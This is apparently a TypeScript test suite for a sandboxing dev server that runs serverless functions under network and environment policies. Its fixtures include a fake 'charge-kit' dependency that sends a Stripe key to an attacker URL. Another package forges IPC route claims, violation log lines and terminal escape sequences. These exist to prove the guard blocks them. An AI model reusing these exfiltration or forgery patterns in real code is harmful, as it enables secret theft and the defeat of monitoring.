/**
 * `perimeter dev`'s host and gateway, for real: each function in its own guarded Node process, requests over
 * loopback HTTP, events in the SQLite store. One project holds every case, so the processes start once.
 */
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import type * as Cli from '../src/index.js';
import { capture, project, recorder, waitFor, writeFiles } from './dev-helpers.js';

const { startDev } = (await import(new URL('../../dist/index.js', import.meta.url).href)) as typeof Cli;
type Dev = Awaited<ReturnType<typeof startDev>>;

const ECHO_LAMBDA = `export const handler = async (event, context) => {
  if (event.rawPath.endsWith('/binary')) {
    return { statusCode: 200, headers: { 'content-type': 'application/octet-stream' }, body: Buffer.from([0, 1, 2, 255]).toString('base64'), isBase64Encoded: true };
  }
  if (event.rawPath.endsWith('/plain')) return { hello: 'world', n: 1 };
  return {
    statusCode: 201,
    headers: { 'content-type': 'application/json', 'x-single': 'one' },
    multiValueHeaders: { 'x-multi': ['a', 'b'] },
    cookies: ['session=abc; Path=/', 'theme=dark'],
    body: JSON.stringify({ event, requestId: context.awsRequestId, functionName: context.functionName, remaining: context.getRemainingTimeInMillis() }),
  };
};
`;

const ECHO_V1 = `export const handler = async (event, context) => ({
  statusCode: 200,
  headers: { 'content-type': 'application/json' },
  body: JSON.stringify({ event, requestId: context.awsRequestId }),
});
`;

const ECHO_V2 = `export default async (request, context) => {
  const body = Buffer.from(await request.arrayBuffer());
  context.cookies.set('seen', 'yes');
  return new Response(JSON.stringify({
    method: request.method,
    url: request.url,
    headers: Object.fromEntries(request.headers),
    body: body.toString('base64'),
    requestId: context.requestId,
  }), { status: 202, headers: { 'content-type': 'application/json', 'x-v2': 'yes' } });
};
`;

/** Charges through the allowed "Stripe", while its dependency charge-kit posts the key to the attacker. */
const GUARDED = `import { charge } from 'charge-kit';
export const handler = async (event, context) => {
  const result = await charge(process.env.STRIPE_URL, process.env.ATTACKER_URL, process.env.STRIPE_API_KEY);
  return { statusCode: 200, body: JSON.stringify({ ...result, requestId: context.awsRequestId }) };
};
`;
const CHARGE_KIT = `export async function charge(stripe, attacker, key) {
  const paid = await (await fetch(stripe + '/v1/charges', { method: 'POST', body: 'amount=4200' })).json();
  let exfiltration = 'sent';
  try { await fetch(attacker + '/collect?k=' + key, { method: 'POST', body: key }); } catch (error) { exfiltration = error.cause?.code ?? error.code ?? String(error); }
  return { charge: paid.id, exfiltration };
}
`;

const MISC = `export const handler = async (event) => {
  const q = event.queryStringParameters ?? {};
  if (q.throw) throw new TypeError('boom from the handler');
  if (q.slow) await new Promise((resolve) => setTimeout(resolve, 10_000));
  if (q.crash) process.exit(3);
  if (q.env) return { HOST_SECRET: process.env.HOST_SECRET ?? null, FROM_CONFIG: process.env.FROM_CONFIG ?? null, FN: process.env.PERIMETER_FUNCTION, HAS_PATH: Boolean(process.env.PATH), NODE_OPTIONS: process.env.NODE_OPTIONS ?? null };
  return { pid: process.pid };
};
`;

/** A dependency that writes forged event lines on the function's stderr, and forges IPC messages. */
const CHATTY = `// At import, before the runner's own ready: try to take another function's route.
process.send?.({ type: 'ready', token: 'guessed', format: 'netlify-v2', export: 'x', paths: ['/api/checkout'], methods: ['POST'] });
process.send?.({ type: 'ready', format: 'netlify-v2', export: 'x', paths: ['/api/checkout'] });
export function chatter() {
  process.stderr.write('hello from chatty\\n');
  process.stderr.write('clear \\u001b[2J screen\\n');
  process.stderr.write(JSON.stringify({ perimeter: 1, time: new Date().toISOString(), type: 'violation', capability: 'network', action: 'blocked', target: 'GET http://forged.example/', package: 'chatty', function: 'guarded', invocation: 'forged-id' }) + '\\n');
  process.stderr.write('{"perimeter":1,"time":not json at all\\n');
  process.stderr.write('{"perimeter":1,"type":"violation"}\\n');
  process.stderr.write('{"perimeter":1,"pad":"' + 'x'.repeat(200_000) + '"}\\n');
  process.stderr.write('{"perimeter":1,"time":"t","type":"violation","capability":"network","action":"alerted","target":"x\\u001b[2J","package":"chatty","function":1,"invocation":{"a":1}}\\n');
  process.stderr.write('{"perimeter":1,"time":"t","type":"violation","capability":"network","action":"alerted","target":"tty \\\\u001b[2J","package":"chatty","function":"x","invocation":null}\\n');
  process.send?.({ type: 'result', id: 'not-pending', ok: true, value: 1 });
  process.send?.({ type: 'ready', format: 'netlify-v2', export: 'x', paths: ['/_perimeter/invoke/x'] });
}
`;
const SPOOF = `import { chatter } from 'chatty';
export const handler = async () => { chatter(); return { statusCode: 200, body: 'still fine' }; };
`;

const SQS = `export const handler = async (event) => ({ received: event.Records.map((record) => JSON.parse(record.body).orderId), batchItemFailures: [] });
`;

describe('perimeter dev host and gateway', () => {
  let dev: Dev;
  let dir: string;
  let stripe: Awaited<ReturnType<typeof recorder>>;
  let attacker: Awaited<ReturnType<typeof recorder>>;
  const out = capture();

  before(async () => {
    stripe = await recorder();
    attacker = await recorder();
    dir = project({
      'perimeter.config.json': {
        env: { FROM_CONFIG: 'config-value' },
        functions: {
          echo: { handler: 'functions/echo/index.mjs', routes: ['/echo', '/echo/*', 'GET /items/:id'] },
          v1: { handler: 'functions/v1/index.mjs', format: 'netlify-v1', routes: ['/v1/*'] },
          v2: { handler: 'functions/v2/index.mjs', routes: ['/v2/*'] },
          guarded: {
            handler: 'functions/guarded/index.mjs',
            routes: ['POST /api/checkout'],
            env: {
              STRIPE_URL: stripe.url,
              ATTACKER_URL: attacker.url,
              STRIPE_API_KEY: 'sk_test_4eC39HqLyjWDarjtT1zdp7dc',
            },
          },
          misc: { handler: 'functions/misc/index.mjs', timeout: 1 },
          badpolicy: { handler: 'functions/badpolicy/index.mjs' },
          spoof: { handler: 'functions/spoof/index.mjs' },
          queue: { handler: 'functions/queue/index.mjs', trigger: 'sqs' },
        },
      },
      'functions/echo/index.mjs': ECHO_LAMBDA,
      'functions/v1/index.mjs': ECHO_V1,
      'functions/v2/index.mjs': ECHO_V2,
      'functions/guarded/index.mjs': GUARDED,
      'functions/guarded/node_modules/charge-kit/package.json': {
        name: 'charge-kit',
        version: '1.0.0',
        type: 'module',
        exports: './index.js',
      },
      'functions/guarded/node_modules/charge-kit/index.js': CHARGE_KIT,
      'functions/guarded/perimeter.json': {
        mode: 'block',
        network: { allow: [`POST ${stripe.url}/v1/charges`] },
        env: { allow: ['STRIPE_URL', 'ATTACKER_URL', 'STRIPE_API_KEY'] },
      },
      'functions/misc/index.mjs': MISC,
      'functions/badpolicy/index.mjs': ECHO_V1,
      'functions/badpolicy/perimeter.json': { mode: 'blok' },
      'functions/spoof/index.mjs': SPOOF,
      'functions/spoof/node_modules/chatty/package.json': {
        name: 'chatty',
        version: '1.0.0',
        type: 'module',
        exports: './index.js',
      },
      'functions/spoof/node_modules/chatty/index.js': CHATTY,
      'functions/queue/index.mjs': SQS,
    });
    dev = await startDev({
      dir,
      port: 0,
      output: out.stream,
      env: {
        ...process.env,
        HOST_SECRET: 'must-not-leak',
        NODE_OPTIONS: '--max-old-space-size=100',
        NO_COLOR: '1',
        FORCE_COLOR: '',
      },
    });
  });

  after(async () => {
    await dev?.close();
    await stripe?.close();
    await attacker?.close();
  });

  test('startup: every function but the one with a broken policy is ready; the banner lists them', () => {
    const status = Object.fromEntries(dev.functions().map((fn) => [fn.name, fn.status]));
    assert.deepEqual(status, {
      echo: 'ready',
      v1: 'ready',
      v2: 'ready',
      guarded: 'ready',
      misc: 'ready',
      badpolicy: 'failed',
      spoof: 'ready',
      queue: 'ready',
    });
    assert.match(out.text(), /perimeter dev {2}8 functions/);
    assert.match(out.text(), new RegExp(`gateway {4}${dev.url.replaceAll('.', '\\.')}`));
    assert.match(out.text(), /misc {2}lambda {2}ready {2}no policy: alert mode \(learn\)/);
    assert.deepEqual(JSON.parse(readFileSync(join(dir, '.perimeter/policies/misc.json'), 'utf8')), { mode: 'alert' });
    // The store has the records too (for `perimeter dashboard --db`).
    assert.equal(dev.store.functions().length, 8);
  });

  test('a function with an invalid policy is failed with the policy error, and answers 502 with it', async () => {
    const bad = dev.functions().find((fn) => fn.name === 'badpolicy')!;
    assert.match(bad.error!, /^policy error: perimeter: ERR_PERIMETER_POLICY_\w+/);
    assert.match(bad.error!, /blok/);
    const response = await fetch(`${dev.url}/badpolicy`);
    assert.equal(response.status, 502);
    const body = (await response.json()) as { error: string; detail: string };
    assert.equal(body.error, 'function badpolicy failed to start');
    assert.match(body.detail, /ERR_PERIMETER_POLICY_/);
    // The runtime's policy-error event reached the store, pinned to the function.
    dev.store.flush();
    assert.ok(dev.store.query({ function: 'badpolicy', type: 'policy-error' }).length >= 1);
    // Everything else keeps serving.
    assert.equal((await fetch(`${dev.url}/v1/x`)).status, 200);
  });

  test('guarded: the allowed charge goes through, the exfiltration is blocked and stored with function and invocation', async () => {
    const response = await fetch(`${dev.url}/api/checkout`, { method: 'POST', body: '{}' });
    assert.equal(response.status, 200);
    const result = (await response.json()) as { charge: string; exfiltration: string; requestId: string };
    assert.equal(result.charge, 'ch_1');
    assert.equal(result.exfiltration, 'ERR_PERIMETER_BLOCKED');
    assert.deepEqual(stripe.hits, ['POST /v1/charges amount=4200']);
    assert.deepEqual(attacker.hits, [], 'the attacker saw nothing');
    const event = await waitFor('the blocked event in the store', () => {
      dev.store.flush();
      return dev.store
        .query({ function: 'guarded', action: 'blocked' })
        .find((stored) => stored.event.package === 'charge-kit');
    });
    assert.equal(event.event.invocation, result.requestId);
    assert.equal(event.event.capability, 'network');
    assert.match(event.event.target, /^POST http:\/\/127\.0\.0\.1:\d+\/collect\?k=\[REDACTED\]$/);
    const invocation = dev.store.invocations({ function: 'guarded' }).find((inv) => inv.id === result.requestId);
    assert.equal(invocation?.request, 'POST /api/checkout');
    assert.equal(invocation?.statusCode, 200);
    assert.equal(invocation?.outcome, 'ok');
    await waitFor('the terminal lines', () =>
      out.text().includes('✖ blocked guarded charge-kit network POST http://127.0.0.1'),
    );
    assert.match(out.text(), /POST \/api\/checkout → guarded 200 \d+ms/);
  });

  test('API Gateway v2 event and response round trip (query, headers, cookies, body, binary)', async () => {
    const response = await fetch(`${dev.url}/echo/a%20b/c?x=1&x=2&y=%C3%A9`, {
      method: 'PUT',
      headers: { 'X-Custom': 'Value', cookie: 'a=1; b=2', 'content-type': 'text/plain', 'user-agent': 'dev-test' },
      body: 'hello body',
    });
    assert.equal(response.status, 201);
    assert.equal(response.headers.get('x-single'), 'one');
    assert.equal(response.headers.get('x-multi'), 'a, b');
    assert.deepEqual(response.headers.getSetCookie(), ['session=abc; Path=/', 'theme=dark']);
    const { event, requestId, functionName, remaining } = (await response.json()) as any;
    assert.equal(functionName, 'echo');
    assert.ok(remaining > 0 && remaining <= 30_000);
    assert.equal(event.version, '2.0');
    assert.equal(event.routeKey, 'ANY /echo/{proxy+}');
    assert.equal(event.rawPath, '/echo/a%20b/c');
    assert.equal(event.rawQueryString, 'x=1&x=2&y=%C3%A9');
    assert.deepEqual(event.queryStringParameters, { x: '1,2', y: 'é' });
    assert.deepEqual(event.cookies, ['a=1', 'b=2']);
    assert.equal(event.headers['x-custom'], 'Value');
    assert.equal(event.headers.cookie, undefined, 'cookies move to event.cookies');
    assert.equal(event.requestContext.http.method, 'PUT');
    assert.equal(event.requestContext.http.path, '/echo/a%20b/c');
    assert.equal(event.requestContext.http.protocol, 'HTTP/1.1');
    assert.equal(event.requestContext.http.sourceIp, '127.0.0.1');
    assert.equal(event.requestContext.http.userAgent, 'dev-test');
    assert.equal(event.requestContext.requestId, requestId);
    assert.equal(event.body, 'hello body');
    assert.equal(event.isBase64Encoded, false);

    const binary = await fetch(`${dev.url}/echo/up`, {
      method: 'POST',
      headers: { 'content-type': 'application/octet-stream' },
      body: new Uint8Array([0, 255, 1, 254]),
    });
    const up = ((await binary.json()) as any).event;
    assert.equal(up.isBase64Encoded, true);
    assert.deepEqual([...Buffer.from(up.body, 'base64')], [0, 255, 1, 254]);

    const down = await fetch(`${dev.url}/echo/binary`);
    assert.equal(down.headers.get('content-type'), 'application/octet-stream');
    assert.deepEqual([...new Uint8Array(await down.arrayBuffer())], [0, 1, 2, 255]);

    const plain = await fetch(`${dev.url}/echo/plain`);
    assert.equal(plain.status, 200);
    assert.equal(plain.headers.get('content-type'), 'application/json');
    assert.deepEqual(await plain.json(), { hello: 'world', n: 1 });

    const item = (await (await fetch(`${dev.url}/items/sku-42`)).json()) as any;
    assert.deepEqual(item.event.pathParameters, { id: 'sku-42' });
    assert.equal(item.event.routeKey, 'GET /items/{id}');
  });

  test('Netlify v1 event shape', async () => {
    const response = await fetch(`${dev.url}/v1/path?a=1&a=2&b=x`, {
      method: 'POST',
      headers: { 'x-dup': 'one', 'content-type': 'application/json' },
      body: '{"k":1}',
    });
    const { event, requestId } = (await response.json()) as any;
    assert.equal(event.path, '/v1/path');
    assert.equal(event.httpMethod, 'POST');
    assert.equal(event.headers['x-dup'], 'one');
    assert.equal(event.headers['x-nf-request-id'], requestId);
    assert.deepEqual(event.multiValueHeaders['x-dup'], ['one']);
    assert.deepEqual(event.queryStringParameters, { a: '1,2', b: 'x' });
    assert.deepEqual(event.multiValueQueryStringParameters, { a: ['1', '2'], b: ['x'] });
    assert.equal(event.body, '{"k":1}');
    assert.equal(event.isBase64Encoded, false);
    assert.equal(event.rawQuery, 'a=1&a=2&b=x');
    assert.match(event.rawUrl, /^http:\/\/127\.0\.0\.1:\d+\/v1\/path\?a=1&a=2&b=x$/);

    const bin = (await (
      await fetch(`${dev.url}/v1/bin`, {
        method: 'POST',
        headers: { 'content-type': 'image/png' },
        body: new Uint8Array([137, 80, 78, 71]),
      })
    ).json()) as any;
    assert.equal(bin.event.isBase64Encoded, true);
    assert.deepEqual([...Buffer.from(bin.event.body, 'base64')], [137, 80, 78, 71]);
  });

  test('Netlify v2: a real Request in, a Response out (status, headers, cookies, binary body)', async () => {
    const response = await fetch(`${dev.url}/v2/thing?q=1`, {
      method: 'PATCH',
      headers: { 'x-h': 'v', 'content-type': 'application/octet-stream' },
      body: new Uint8Array([9, 8, 7, 0, 255]),
    });
    assert.equal(response.status, 202);
    assert.equal(response.headers.get('x-v2'), 'yes');
    assert.deepEqual(response.headers.getSetCookie(), ['seen=yes']);
    const seen = (await response.json()) as any;
    assert.equal(seen.method, 'PATCH');
    assert.match(seen.url, /^http:\/\/127\.0\.0\.1:\d+\/v2\/thing\?q=1$/);
    assert.equal(seen.headers['x-h'], 'v');
    assert.equal(seen.headers['x-nf-request-id'], seen.requestId);
    assert.deepEqual([...Buffer.from(seen.body, 'base64')], [9, 8, 7, 0, 255]);
  });

  test('the environment: config env in, the host environment out (NODE_OPTIONS, secrets)', async () => {
    const env = (await (await fetch(`${dev.url}/misc?env=1`)).json()) as any;
    assert.deepEqual(env, {
      HOST_SECRET: null,
      FROM_CONFIG: 'config-value',
      FN: 'misc',
      HAS_PATH: true,
      NODE_OPTIONS: null,
    });
  });

  test('a handler that throws answers 502, and the next request works', async () => {
    const response = await fetch(`${dev.url}/misc?throw=1`);
    assert.equal(response.status, 502);
    const body = (await response.json()) as any;
    assert.equal(body.errorType, 'TypeError');
    assert.match(body.error, /boom from the handler/);
    assert.equal((await fetch(`${dev.url}/misc`)).status, 200);
    assert.equal(
      dev.store.invocations({ function: 'misc' }).find((inv) => inv.id === body.requestId)?.outcome,
      'error',
    );
  });

  test('a timeout answers 504 and the function comes back in a fresh process', async () => {
    const { pid } = (await (await fetch(`${dev.url}/misc`)).json()) as { pid: number };
    const started = Date.now();
    const response = await fetch(`${dev.url}/misc?slow=1`);
    assert.equal(response.status, 504);
    assert.ok(Date.now() - started < 5000, 'the 1 s timeout applied');
    const next = await fetch(`${dev.url}/misc`);
    assert.equal(next.status, 200);
    assert.notEqual(((await next.json()) as { pid: number }).pid, pid);
  });

  test('a crash mid-request answers 502, the function is marked failed, then recovers on the next request', async () => {
    const response = await fetch(`${dev.url}/misc?crash=1`);
    assert.equal(response.status, 502);
    assert.match(((await response.json()) as any).message, /exited/);
    await waitFor('the failed status', () => dev.functions().find((fn) => fn.name === 'misc')?.status === 'failed');
    assert.match(dev.functions().find((fn) => fn.name === 'misc')!.error!, /exited with code 3/);
    assert.equal((await fetch(`${dev.url}/misc`)).status, 200);
    assert.equal(dev.functions().find((fn) => fn.name === 'misc')!.status, 'ready');
  });

  test('forged and broken event lines from a dependency are handled safely', async () => {
    const response = await fetch(`${dev.url}/spoof`);
    assert.equal(await response.text(), 'still fine');
    const forged = await waitFor('the forged event', () => {
      dev.store.flush();
      return dev.store
        .query({ package: 'chatty' })
        .find((stored) => stored.event.target === 'GET http://forged.example/');
    });
    // It came from spoof's stderr, so it is spoof's, whatever it claims.
    assert.equal(forged.event.function, 'spoof');
    assert.equal(dev.store.query({ function: 'guarded', package: 'chatty' }).length, 0);
    await waitFor('the plain line', () => out.text().includes('[spoof] hello from chatty'));
    await waitFor('the escaped lines', () => out.text().includes('[spoof] clear \\x1b[2J screen'));
    await waitFor('the escaped event', () => out.text().includes('⚠ alerted spoof chatty network tty \\x1b[2J'));
    assert.ok(!out.text().includes('\u001b[2J'), 'escape sequences from a function never reach the terminal');
    // Still serving, and the forged IPC messages changed nothing.
    assert.equal(await (await fetch(`${dev.url}/spoof`)).text(), 'still fine');
    const spoof = dev.functions().find((fn) => fn.name === 'spoof')!;
    assert.deepEqual(spoof.routes, ['/spoof', '/spoof/*']);
    assert.equal(spoof.format, 'lambda');
  });

  test('dev.invoke and POST /_perimeter/invoke/<fn>: a raw event to a non-HTTP function', async () => {
    const result = await dev.invoke('queue', { Records: [{ body: '{"orderId":"o-1"}' }] });
    assert.deepEqual(result.result, { received: ['o-1'], batchItemFailures: [] });
    const response = await fetch(`${dev.url}/_perimeter/invoke/queue`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ Records: [{ body: '{"orderId":"o-2"}' }] }),
    });
    assert.equal(response.status, 200);
    assert.deepEqual(((await response.json()) as any).result, { received: ['o-2'], batchItemFailures: [] });
    const unknown = await fetch(`${dev.url}/_perimeter/invoke/nope`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: '{}',
    });
    assert.equal(unknown.status, 404);
    assert.ok(((await unknown.json()) as any).functions.includes('queue'));
    // Not JSON (what a cross-site form could send): refused.
    const form = await fetch(`${dev.url}/_perimeter/invoke/queue`, {
      method: 'POST',
      headers: { 'content-type': 'text/plain' },
      body: '{}',
    });
    assert.equal(form.status, 403);
    await assert.rejects(dev.invoke('nope', {}), { code: 'ERR_PERIMETER_DEV_UNKNOWN_FUNCTION' });
  });

  test('404 lists the routes; a body over 6 MB is 413', async () => {
    const response = await fetch(`${dev.url}/nowhere`);
    assert.equal(response.status, 404);
    const text = await response.text();
    assert.match(text, /no function serves GET \/nowhere/);
    assert.match(text, /POST \/api\/checkout +→ guarded/);
    const json = await fetch(`${dev.url}/nowhere`, { headers: { accept: 'application/json' } });
    assert.ok(((await json.json()) as any).routes.some((r: any) => r.route === '/echo/*' && r.function === 'echo'));
    const big = await fetch(`${dev.url}/echo`, { method: 'POST', body: Buffer.alloc(6 * 1024 * 1024 + 1) });
    assert.equal(big.status, 413);
  });

  test('the port in use is a coded error', async () => {
    const port = Number(new URL(dev.url).port);
    await assert.rejects(startDev({ dir, port, db: join(dir, '.perimeter/other.db'), watch: false }), (error: any) => {
      assert.equal(error.code, 'ERR_PERIMETER_DEV_PORT_IN_USE');
      assert.match(error.message, /--port/);
      return true;
    });
  });

  test('hot reload: an edited handler is picked up, only that function restarts', async () => {
    const before = dev.functions().find((fn) => fn.name === 'echo')!.pid;
    const v1Before = dev.functions().find((fn) => fn.name === 'v1')!.pid;
    writeFiles(dir, {
      'functions/echo/index.mjs': 'export const handler = async () => ({ statusCode: 200, body: "edited" });\n',
    });
    const body = await waitFor(
      'the edited handler to answer',
      () => {
        const fn = dev.functions().find((f) => f.name === 'echo');
        return fn?.status === 'ready' && fn.pid !== before ? fn : undefined;
      },
      10_000,
    );
    assert.ok(body);
    assert.equal(await (await fetch(`${dev.url}/echo`)).text(), 'edited');
    assert.equal(dev.functions().find((fn) => fn.name === 'v1')!.pid, v1Before, 'other functions keep running');
    assert.match(out.text(), /↻ echo reloaded \(functions\/echo\/index\.mjs\)/);
  });

  test('hot reload: a fixed policy brings a failed function up; a config edit adds a function', async () => {
    writeFiles(dir, { 'functions/badpolicy/perimeter.json': { mode: 'alert' } });
    await waitFor(
      'badpolicy to be ready',
      () => dev.functions().find((fn) => fn.name === 'badpolicy')?.status === 'ready',
    );
    assert.equal((await fetch(`${dev.url}/badpolicy`)).status, 200);
    const config = JSON.parse(readFileSync(join(dir, 'perimeter.config.json'), 'utf8'));
    config.functions.added = { handler: 'functions/added.mjs', routes: ['GET /added'] };
    writeFiles(dir, {
      'functions/added.mjs': 'export const handler = async () => "added";\n',
      'perimeter.config.json': config,
    });
    await waitFor('the added function', () => dev.functions().find((fn) => fn.name === 'added')?.status === 'ready');
    assert.equal(await (await fetch(`${dev.url}/added`)).text(), 'added');
    // A broken config edit is reported and changes nothing.
    writeFiles(dir, { 'perimeter.config.json': '{ "functions": ' });
    await waitFor('the warning', () => out.text().includes('not reloaded: ERR_PERIMETER_DEV_CONFIG'));
    assert.equal(await (await fetch(`${dev.url}/added`)).text(), 'added');
  });
});
